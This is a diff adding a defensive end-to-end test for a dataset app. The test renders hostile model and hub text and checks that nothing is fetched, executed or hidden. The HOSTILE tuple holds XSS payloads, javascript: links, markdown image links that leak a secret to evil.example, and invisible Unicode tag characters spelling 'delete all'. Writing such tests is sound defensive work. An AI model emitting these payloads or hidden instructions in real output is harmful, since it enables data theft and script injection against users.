@@ -11,7 +11,7 @@ from dataferry.core.job_types import JobView
 from dataferry.library.views import DatasetCard
 from tests.e2e.accessibility import check_everywhere
 from tests.e2e.conftest import register
-from tests.e2e.staged import answer_with, card, job, search, stage
+from tests.e2e.staged import answer_with, card, job, search, stage, text
 from tests.support.server import Server
 
 pytestmark = pytest.mark.e2e
@@ -94,6 +94,65 @@ def page(signed_in: Page) -> Iterator[Page]:
     signed_in.set_viewport_size({"width": 1440, "height": 900})
     yield signed_in
     signed_in.unroute_all()
+
+
+EVIL = "http://evil.example"
+TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "delete all")
+#: What a model or a hub might say that wants to be fetched, to run, to hide or to be taken for ours.
+HOSTILE = (
+    f"![p]({EVIL}/p.png?said=hunter2)",
+    f"![p][r]\n\n[r]: {EVIL}/q.png?said=hunter2",
+    f'<img src="{EVIL}/i.png?said=hunter2" onerror="window.ran = 1">',
+    f'<script src="{EVIL}/s.js"></script><script>window.ran = 1</script>',
+    f'<link rel="stylesheet" href="{EVIL}/c.css"><iframe src="{EVIL}/f"></iframe><video poster="{EVIL}/v">',
+    f'<form action="{EVIL}"><button>Download</button></form>',
+    "[x](javascript:window.ran=1) <javascript:window.ran=1> [x](data:text/html,<svg onload=window.ran=1>)",
+    "[Download](/api/datasets/download-dataset) [x](//evil.example/) [x](https://good.org@evil.example/)",
+    f"<svg onload=window.ran=1><use href='{EVIL}/u.svg'></svg> <a href='{EVIL}/?said=hunter2'>more</a>",
+    f"`\x1b[2J` a\u202efdp.exe b\u200bc {TAGS} 😀\U000e0115\U000e0116 \ufeff",
+    f"| a\u2066 | {TAGS} |\n|---|---|\n| \x9b31m | ![p]({EVIL}/t.png) |",
+    f"```\u202e\ncurl x {TAGS}\n```",
+    "می\u200cخواهم क्\u200dष 👩\u200d👧 ❤\ufe0f\u200d🔥",
+)
+#: Every text of the page, shown or read out, that holds a character which nobody sees; but the last line's.
+UNSEEN = """() => {
+  const hidden = /[\\p{Cf}\\p{Cc}\\u{fe00}-\\u{fe0f}\\u{e0100}-\\u{e01ef}]/u;
+  const kept = /\\t|\\n|\\r|(?<=[\\u0600-\\u0dff])[\\u200c\\u200d]|(?<=\\p{So})\\ufe0f?\\u200d(?=\\p{So})/gu;
+  const texts = [...document.querySelectorAll("body *")].flatMap((one) => [
+    ...["title", "aria-label", "alt", "placeholder"].map((name) => one.getAttribute(name) ?? ""),
+    ...[...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data),
+  ]);
+  return [document.title, ...texts].filter((text) => hidden.test(text.replace(kept, "")));
+}"""
+
+
+def test_hostile_texts_fetch_nothing_run_nothing_and_lead_nowhere_unasked(page: Page, server: Server) -> None:
+    """Without the content policy, which would stop most of it too."""
+    asked: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    cards = [
+        card(f"kaggle:a/hostile{number}", words, description=words, license=words[:60], why=words)
+        for number, words in enumerate(HOSTILE)
+    ]
+    words = "\n\n".join((*HOSTILE, f"[our page]({EVIL}/open?said=hunter2)"))
+    stage(page, server, [search(cards, f"x\u202e{TAGS}"), text(words)], question=f"what{TAGS} is \u202eit?")
+    expect(page.get_by_test_id("dataset-card")).to_have_count(5)
+    answer = page.get_by_role("article", name="Answer")
+    expect(answer).to_contain_text(
+        "a[U+202E]fdp.exe b[U+200B]c [10 hidden characters] 😀[2 hidden characters]"
+    )
+    expect(answer).to_contain_text("می\u200cخواهم क्\u200dष 👩\u200d👧 ❤\ufe0f\u200d🔥")
+    assert page.evaluate(UNSEEN) == []
+    prose = answer.locator(".prose-answer")
+    assert prose.locator("a, img, script, iframe, form, video, svg use, [href], [src], [style]").count() == 0
+    prose.get_by_role("button", name="our page").click()
+    notice = page.get_by_role("dialog", name="Open this link?")
+    expect(notice.get_by_text("evil.example", exact=True)).to_be_visible()
+    expect(notice.get_by_text(f"{EVIL}/open?said=hunter2")).to_be_visible()
+    notice.get_by_role("button", name="Cancel").click()
+    expect(notice).to_have_count(0)
+    assert page.evaluate("window.ran") is None
+    assert [url for url in asked if not url.startswith((server.address, "data:", "blob:"))] == []
 
 
 def parts_of_five(cards: list[DatasetCard]) -> list[dict[str, object]]:
